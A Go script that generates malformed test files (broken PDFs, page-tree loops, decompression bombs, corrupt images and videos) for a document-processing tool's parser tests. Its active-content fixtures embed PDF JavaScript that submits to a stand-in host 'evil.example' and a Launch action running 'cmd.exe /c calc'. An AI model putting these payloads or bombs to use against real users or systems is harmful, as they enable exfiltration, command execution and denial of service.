//go:build ignore

// gen.go writes the synthetic bad inputs of this directory (README.md lists
// every file with the outcome mmq must give). The real-world files beside
// them are copies from the shared corpus and are not written here. The
// output is deterministic; the files are committed. To regenerate, from the
// repository root:
//
//	go run testdata/bad/gen.go
//
// The video files need ffmpeg on PATH; without it they are skipped.
package main

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"flag"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"log"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"

	"github.com/mmq/mmq/internal/imagetest"
)

var outDir string

func main() {
	flag.StringVar(&outDir, "out", "testdata/bad", "the directory to write to")
	flag.Parse()

	// Not PDFs at all.
	write("zero-byte.pdf", nil)
	write("random-bytes.pdf", random(4096, 1))
	write("wrong-magic-pfd.pdf", bytes.Replace(hello(), []byte("%PDF-"), []byte("%PFD-"), 1))
	write("png-named.pdf", pngImage())
	write("zip-named.pdf", zipFile())
	write("postscript-named.pdf", []byte("%!PS-Adobe-3.0\n%%Title: not a pdf\n/Helvetica findfont 12 scalefont setfont\n72 720 moveto (hello) show\nshowpage\n%%EOF\n"))
	write("html-named.pdf", []byte("<!DOCTYPE html>\n<html><head><title>Sign in</title></head><body><form>login</form></body></html>\n"))
	// An error page that quotes a PDF header: it passes the magic check
	// and must be refused by the parser.
	write("html-quoting-pdf-header.pdf", []byte("<!DOCTYPE html>\n<html><body><p>Expected a file starting with %PDF-1.7 but the download expired.</p></body></html>\n"))

	images()

	// Truncated.
	full := hello()
	write("header-only.pdf", []byte("%PDF-1.7\n"))
	write("random-after-header.pdf", append([]byte("%PDF-1.4\n"), random(4096, 2)...))
	write("truncated-10pct.pdf", full[:len(full)/10])
	write("truncated-before-xref.pdf", full[:bytes.LastIndex(full, []byte("xref"))])
	write("truncated-mid-stream.pdf", full[:bytes.Index(full, []byte("(Page 3"))+3])

	// Broken cross-reference data.
	write("xref-offsets-shifted.pdf", shiftXref(full, 7))
	write("startxref-past-eof.pdf", bytes.Replace(full, []byte("startxref\n"+startxrefOf(full)), []byte("startxref\n99999999"), 1))
	write("no-xref-no-trailer.pdf", append(full[:bytes.LastIndex(full, []byte("xref"))], "%%EOF\n"...))
	write("stream-length-wrong.pdf", edit(full, regexp.MustCompile(`/Length \d+`).FindString(string(full)), "/Length 99999", 1))
	write("xref-stream-garbage.pdf", xrefStreamDoc(func(xs []byte) []byte { return random(len(xs), 3) }, nil))

	// Page trees that loop or lie.
	write("pages-kids-self.pdf", doc("1.4", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
	}))
	write("pages-mutual-loop.pdf", doc("1.4", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
	}))
	write("pages-loop-beside-page.pdf", doc("1.4", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
		stream("", []byte("BT /F1 24 Tf 72 700 Td (Loop) Tj ET")),
		helvetica,
	}))
	write("pages-deep-300.pdf", deepTree(300))
	write("pages-count-lies-1e9.pdf", edit(full, "/Count 3", "/Count 1000000000", 1))
	write("pages-count-negative.pdf", edit(full, "/Count 3", "/Count -3", 1))
	write("pages-count-overflow.pdf", edit(full, "/Count 3", "/Count 99999999999999999999999", 1))
	write("pages-none.pdf", doc("1.4", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [] /Count 0 >>",
	}))
	write("catalog-without-pages.pdf", doc("1.4", []string{"<< /Type /Catalog >>"}))
	write("pages-2001.pdf", manyPages(2001))

	// Decompression bombs: small files whose streams inflate to gigabytes.
	gib := func(n int) io.Reader { return io.LimitReader(spaces{}, int64(n)<<30) }
	write("bomb-content-double-flate-4g.pdf", bombContent(flate(flate(gib(4))), "[/FlateDecode /FlateDecode]"))
	write("bomb-content-flate-256m.pdf", bombContent(flate(io.LimitReader(spaces{}, 256<<20)), "/FlateDecode"))
	write("bomb-image-double-flate-4g.pdf", bombImage(flate(flate(gib(4)))))
	write("bomb-objstm-double-flate-1g.pdf", bombObjStm(flate(flate(io.MultiReader(strings.NewReader("5 0 "), gib(1)))), false))
	// The security review's bomb: an object stream holding one string of
	// 512 MiB, and a page whose /Contents has a wrong /Length, which sends
	// the file to qpdf for repair; qpdf then writes the string out whole.
	write("bomb-objstm-string-512m-repair.pdf", bombObjStm(flate(flate(io.MultiReader(
		strings.NewReader("5 0 ("), io.LimitReader(spaces{}, 512<<20), strings.NewReader(")")))), true))

	// Page geometry.
	const box = "/MediaBox [0 0 612 792]"
	write("mediabox-1e9.pdf", edit(full, box, "/MediaBox [0 0 1000000000 1000000000]", -1))
	write("mediabox-huge-real.pdf", edit(full, box, "/MediaBox [0 0 1"+strings.Repeat("0", 400)+".0 792]", -1))
	write("mediabox-inverted-negative.pdf", edit(full, box, "/MediaBox [612 792 -5 -1000000]", -1))
	write("mediabox-missing.pdf", edit(full, box+" ", "", -1))
	write("mediabox-three-numbers.pdf", edit(full, box, "/MediaBox [0 0 612]", -1))
	write("rotate-45.pdf", edit(full, "/Type /Page ", "/Type /Page /Rotate 45 ", 1))

	// Active content: analyzed as any page, never run.
	write("javascript-openaction.pdf", withCatalogEntries(full,
		"/OpenAction << /S /JavaScript /JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/'\\);) >> "+
			"/Names << /JavaScript << /Names [(init) << /S /JavaScript /JS (app.launchURL\\('https://evil.example/'\\);) >>] >> >>"))
	write("javascript-page-actions.pdf", edit(full, "/Type /Page ",
		"/Type /Page /AA << /O << /S /JavaScript /JS (app.alert\\(1\\);) >> >> "+
			"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>] ", 1))
	write("embedded-file.pdf", embeddedFile())

	// Object streams.
	write("objstm-first-past-end.pdf", xrefStreamDoc(nil, func(n, first int, data []byte) (int, int, []byte) { return n, len(data) + 100, data }))
	write("objstm-n-too-large.pdf", xrefStreamDoc(nil, func(n, first int, data []byte) (int, int, []byte) { return 1000, first, data }))
	write("objstm-garbage.pdf", xrefStreamDoc(nil, func(n, first int, data []byte) (int, int, []byte) { return n, first, random(len(data), 4) }))
	write("objstm-not-flate.pdf", xrefStreamDoc(nil, func(n, first int, data []byte) (int, int, []byte) { return n, first, nil }))

	// Deep nesting in a page dict.
	write("nesting-100k-arrays.pdf", edit(full, "/Type /Page ", "/Type /Page /Junk "+strings.Repeat("[", 100000)+strings.Repeat("]", 100000)+" ", 1))

	videos()
}

const helvetica = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"

// hello is a valid three-page PDF: objects 1 catalog, 2 page tree, 3 font,
// then a page and its content stream for each page.
func hello() []byte {
	objs := []string{"<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [4 0 R 6 0 R 8 0 R] /Count 3 >>", helvetica}
	for n := 1; n <= 3; n++ {
		objs = append(objs,
			fmt.Sprintf("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 3 0 R >> >> >>", 4+2*n-1),
			stream("", []byte(fmt.Sprintf("BT /F1 24 Tf 72 700 Td (Page %d of hello) Tj ET", n))))
	}
	return doc("1.4", objs)
}

// doc writes objects 1..n with a classic xref table; object 1 is the root.
func doc(version string, objs []string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-" + version + "\n%\xe2\xe3\xcf\xd3\n")
	offsets := make([]int, len(objs))
	for i, o := range objs {
		offsets[i] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, off := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", off)
	}
	fmt.Fprintf(&b, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return b.Bytes()
}

// stream returns a stream object with dict entries extra and data.
func stream(extra string, data []byte) string {
	return fmt.Sprintf("<< %s/Length %d >>\nstream\n%s\nendstream", extra, len(data), data)
}

func startxrefOf(b []byte) string {
	i := bytes.LastIndex(b, []byte("startxref\n")) + len("startxref\n")
	return string(b[i : i+bytes.IndexByte(b[i:], '\n')])
}

// shiftXref adds delta to every in-use offset of b's xref table.
func shiftXref(b []byte, delta int) []byte {
	i := bytes.LastIndex(b, []byte("xref\n"))
	head, table := b[:i], string(b[i:])
	lines := strings.Split(table, "\n")
	for j, l := range lines {
		var off, gen int
		var kind string
		if n, _ := fmt.Sscanf(l, "%010d %05d %s", &off, &gen, &kind); n == 3 && kind == "n" {
			lines[j] = fmt.Sprintf("%010d %05d n ", off+delta, gen)
		}
	}
	return append(append([]byte{}, head...), strings.Join(lines, "\n")...)
}

// deepTree nests depth /Pages nodes above one page.
func deepTree(depth int) []byte {
	objs := []string{"<< /Type /Catalog /Pages 2 0 R >>"}
	for i := 0; i < depth; i++ {
		nr := 2 + i
		parent := ""
		if i > 0 {
			parent = fmt.Sprintf("/Parent %d 0 R ", nr-1)
		}
		objs = append(objs, fmt.Sprintf("<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>", parent, nr+1))
	}
	pageNr := 2 + depth
	objs = append(objs,
		fmt.Sprintf("<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] /Contents %d 0 R /Resources << /Font << /F1 %d 0 R >> >> >>", pageNr-1, pageNr+1, pageNr+2),
		stream("", []byte("BT /F1 24 Tf 72 700 Td (Deep) Tj ET")),
		helvetica)
	return doc("1.4", objs)
}

// manyPages is a document of n tiny pages sharing one content stream.
func manyPages(n int) []byte {
	objs := []string{"<< /Type /Catalog /Pages 2 0 R >>", "", stream("", []byte("BT /F1 12 Tf 72 700 Td (Many) Tj ET")), helvetica}
	var kids strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&kids, "%d 0 R ", 5+i)
		objs = append(objs, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 3 0 R /Resources << /Font << /F1 4 0 R >> >> >>")
	}
	objs[1] = fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", kids.String(), n)
	return doc("1.4", objs)
}

// spaces reads as an endless run of blanks: a valid, empty content stream.
type spaces struct{}

func (spaces) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = ' '
	}
	return len(p), nil
}

// flate returns r compressed with zlib at the best ratio.
func flate(r io.Reader) io.Reader {
	var b bytes.Buffer
	w, _ := zlib.NewWriterLevel(&b, zlib.BestCompression)
	if _, err := io.Copy(w, r); err != nil {
		log.Fatal(err)
	}
	if err := w.Close(); err != nil {
		log.Fatal(err)
	}
	return &b
}

func readAll(r io.Reader) []byte {
	b, err := io.ReadAll(r)
	if err != nil {
		log.Fatal(err)
	}
	return b
}

// bombContent is a one-page document whose content stream is data.
func bombContent(data io.Reader, filter string) []byte {
	return doc("1.4", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
		stream("/Filter "+filter+" ", readAll(data)),
	})
}

// bombImage is a one-page document drawing an image whose data is data.
func bombImage(data io.Reader) []byte {
	return doc("1.4", []string{
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /XObject << /Im1 5 0 R >> >> >>",
		stream("", []byte("q 612 0 0 792 0 0 cm /Im1 Do Q")),
		stream("/Type /XObject /Subtype /Image /Width 65536 /Height 65536 /ColorSpace /DeviceGray /BitsPerComponent 8 /Filter [/FlateDecode /FlateDecode] ", readAll(data)),
	})
}

// xrefStreamDoc is a PDF 1.5 file with the page dict and font in an object
// stream and an xref stream. mutXref may replace the xref stream's data,
// mutObjStm the object stream's /N, /First and data (nil data: the data is
// declared FlateDecode but left uncompressed).
func xrefStreamDoc(mutXref func([]byte) []byte, mutObjStm func(n, first int, data []byte) (int, int, []byte)) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	type entry struct{ kind, a, c int }
	entries := map[int]entry{}
	put := func(nr int, body string) {
		entries[nr] = entry{1, b.Len(), 0}
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", nr, body)
	}
	put(1, "<< /Type /Catalog /Pages 2 0 R >>")
	put(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	put(4, stream("", []byte("BT /F1 24 Tf 72 700 Td (Object streams) Tj ET")))

	// Object stream 6 holds objects 3 (the page) and 5 (the font).
	page := "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
	hdr := fmt.Sprintf("3 0 5 %d ", len(page)+1)
	data := []byte(hdr + page + " " + helvetica)
	n, first := 2, len(hdr)
	compressed := readAll(flate(bytes.NewReader(data)))
	if mutObjStm != nil {
		n, first, data = mutObjStm(n, first, data)
		if data == nil {
			compressed = []byte(hdr + page + " " + helvetica) // declared Flate, not compressed
		} else {
			compressed = readAll(flate(bytes.NewReader(data)))
		}
	}
	put(6, stream(fmt.Sprintf("/Type /ObjStm /N %d /First %d /Filter /FlateDecode ", n, first), compressed))
	entries[3] = entry{2, 6, 0}
	entries[5] = entry{2, 6, 1}

	// Xref stream 7: W [1 4 2], entries 0..7.
	entries[7] = entry{1, b.Len(), 0}
	var xs []byte
	for nr := 0; nr <= 7; nr++ {
		e, ok := entries[nr]
		if !ok {
			xs = append(xs, 0, 0, 0, 0, 0, 0xff, 0xff)
			continue
		}
		xs = append(xs, byte(e.kind), byte(e.a>>24), byte(e.a>>16), byte(e.a>>8), byte(e.a), byte(e.c>>8), byte(e.c))
	}
	if mutXref != nil {
		xs = mutXref(xs)
	}
	xref := entries[7].a
	fmt.Fprintf(&b, "7 0 obj\n%s\nendobj\n", stream("/Type /XRef /Size 8 /W [1 4 2] /Root 1 0 R ", xs))
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xref)
	return b.Bytes()
}

// bombObjStm is xrefStreamDoc's layout with an object stream that inflates
// to gigabytes. With brokenContents the page also has a content stream
// whose /Length is wrong, a damage that sends the file to qpdf for repair.
func bombObjStm(data io.Reader, brokenContents bool) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
	offs := map[int]int{}
	put := func(nr int, body string) {
		offs[nr] = b.Len()
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", nr, body)
	}
	put(1, "<< /Type /Catalog /Pages 2 0 R >>")
	put(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
	if brokenContents {
		put(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 7 0 R /Resources << /Font << /F1 5 0 R >> >> >>")
	} else {
		put(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> >>")
	}
	put(4, stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] ", readAll(data)))
	if brokenContents {
		offs[7] = b.Len()
		b.WriteString("7 0 obj\n<< /Length 9999 >>\nstream\nBT /F1 24 Tf 72 700 Td (Bomb) Tj ET\nendstream\nendobj\n")
	}
	xref := b.Len()
	var xs []byte
	row := func(kind, a, c int) {
		xs = append(xs, byte(kind), byte(a>>24), byte(a>>16), byte(a>>8), byte(a), byte(c>>8), byte(c))
	}
	row(0, 0, 0xffff)
	for nr := 1; nr <= 4; nr++ {
		row(1, offs[nr], 0)
	}
	row(2, 4, 0) // object 5, the font, is the first object of stream 4
	row(1, xref, 0)
	size := 7
	if brokenContents {
		row(1, offs[7], 0)
		size = 8
	}
	fmt.Fprintf(&b, "6 0 obj\n%s\nendobj\n", stream(fmt.Sprintf("/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R ", size), xs))
	fmt.Fprintf(&b, "startxref\n%d\n%%%%EOF\n", xref)
	return b.Bytes()
}

// withCatalogEntries adds entries to the catalog of b (object 1).
func withCatalogEntries(b []byte, entries string) []byte {
	return edit(b, "<< /Type /Catalog ", "<< /Type /Catalog "+entries+" ", 1)
}

// edit replaces the first n (all if n < 0) old in b by new and writes a
// correct xref table for the result.
func edit(b []byte, old, new string, n int) []byte {
	return fixXref(bytes.Replace(b, []byte(old), []byte(new), n))
}

// fixXref rewrites b's xref table for the object offsets b now has, after
// an edit changed the length of some object. Objects must be numbered
// 1..n in order, as doc writes them.
func fixXref(b []byte) []byte {
	i := bytes.LastIndex(b, []byte("xref\n"))
	body := b[:i]
	var objs []string
	for nr := 1; ; nr++ {
		start := bytes.Index(body, []byte(fmt.Sprintf("\n%d 0 obj\n", nr)))
		if start < 0 {
			break
		}
		start += len(fmt.Sprintf("\n%d 0 obj\n", nr))
		end := bytes.Index(body[start:], []byte("\nendobj\n"))
		objs = append(objs, string(body[start:start+end]))
	}
	return doc(string(b[5:8]), objs)
}

// embeddedFile is a one-page document with an attached file, both in the
// document's EmbeddedFiles name tree and as a FileAttachment annotation.
func embeddedFile() []byte {
	payload := []byte("MZ\x90\x00 this stands for an executable; it must be stored, never run\n")
	return doc("1.7", []string{
		"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >> >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> " +
			"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 92 620] /FS 6 0 R /Contents (Open me) >>] >>",
		stream("", []byte("BT /F1 24 Tf 72 700 Td (See the attachment) Tj ET")),
		helvetica,
		"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 7 0 R >> >>",
		stream("/Type /EmbeddedFile /Subtype /application#2Foctet-stream ", payload),
	})
}

func random(n int, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, 0x6d6d71))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.UintN(256))
	}
	// Keep the magic check honest: no PDF header by chance.
	return bytes.ReplaceAll(b, []byte("%PDF-"), []byte("%PDX-"))
}

func pngImage() []byte {
	img := image.NewGray(image.Rect(0, 0, 8, 8))
	for i := range img.Pix {
		img.Pix[i] = uint8(i * 4)
	}
	img.Set(0, 0, color.White)
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// zipFile is a minimal Office Open XML package: what a .docx renamed to
// .pdf looks like.
func zipFile() []byte {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, f := range []struct{ name, body string }{
		{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`},
		{"word/document.xml", `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>`},
	} {
		h := &zip.FileHeader{Name: f.name, Method: zip.Deflate}
		w, err := zw.CreateHeader(h)
		if err != nil {
			log.Fatal(err)
		}
		_, _ = w.Write([]byte(f.body))
	}
	if err := zw.Close(); err != nil {
		log.Fatal(err)
	}
	return b.Bytes()
}

// videos writes the bad video inputs with ffmpeg: small, generated from
// lavfi test sources, so deterministic enough and free of licenses.
func videos() {
	ffmpeg, err := exec.LookPath("ffmpeg")
	if err != nil {
		log.Print("ffmpeg not found; video files not written")
		return
	}
	tmp, err := os.MkdirTemp("", "mmq-gen-*")
	if err != nil {
		log.Fatal(err)
	}
	defer os.RemoveAll(tmp)
	run := func(out string, args ...string) []byte {
		p := filepath.Join(tmp, out)
		args = append([]string{"-hide_banner", "-loglevel", "error", "-y", "-fflags", "+bitexact", "-flags:v", "+bitexact", "-flags:a", "+bitexact"}, args...)
		cmd := exec.Command(ffmpeg, append(args, "-map_metadata", "-1", p)...)
		cmd.Stderr = os.Stderr
		if err := cmd.Run(); err != nil {
			log.Fatalf("ffmpeg %s: %v", out, err)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			log.Fatal(err)
		}
		return b
	}
	good := run("good.mp4", "-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=2", "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-movflags", "+faststart")
	write("video-truncated.mp4", good[:len(good)/3])
	corrupt := append([]byte{}, good...)
	r := rand.New(rand.NewPCG(5, 5))
	for i := len(corrupt) / 2; i < len(corrupt); i += 7 {
		corrupt[i] = byte(r.UintN(256))
	}
	write("video-corrupt-mdat.mp4", corrupt)
	write("video-audio-only.m4a", run("audio.m4a", "-f", "lavfi", "-i", "sine=frequency=440:duration=1", "-c:a", "aac", "-b:a", "32k"))
	write("video-zero-duration.mp4", run("zero.mp4", "-f", "lavfi", "-i", "testsrc=size=160x120:rate=10:duration=2", "-frames:v", "0", "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"))
	write("video-huge-dimensions.mp4", run("huge.mp4", "-f", "lavfi", "-i", "color=c=black:size=8192x8192:rate=1:duration=1", "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"))
}

// images writes the bad images: an image is a document, so damage and
// bombs must be refused with invalid_image and image_too_large.
func images() {
	pngData := imagetest.PNG(64, 64)
	write("image-truncated.png", pngData[:len(pngData)/2])
	jpg := imagetest.JPEG(64, 64, 0)
	corrupt := bytes.Clone(jpg)
	for i := len(corrupt) / 2; i < len(corrupt)-2; i++ {
		corrupt[i] = 0xFF
	}
	write("image-corrupt.jpg", corrupt)
	write("image-pixel-bomb.png", imagetest.PNGHeader(100000, 100000))
	write("image-zero-size.png", imagetest.PNGHeader(0, 0))
	write("image-wrong-magic.png", append([]byte("\x89PNX"), pngData[4:]...))
	fax := imagetest.TIFF(imagetest.Gray(64, 64, 0), imagetest.Gray(64, 64, 128), imagetest.Gray(64, 64, 255))
	write("tiff-truncated.tif", fax[:len(fax)*6/10])
	loop := imagetest.TIFF(imagetest.Gray(8, 8, 0))
	binary.LittleEndian.PutUint32(loop[len(loop)-4:], binary.LittleEndian.Uint32(loop[4:8])) // the next IFD is the first
	write("tiff-ifd-loop.tif", loop)
	write("tiff-10000-pages.tif", imagetest.ManyPageTIFF(10000))
}

func write(name string, data []byte) {
	if err := os.WriteFile(filepath.Join(outDir, name), data, 0o644); err != nil {
		log.Fatal(err)
	}
}
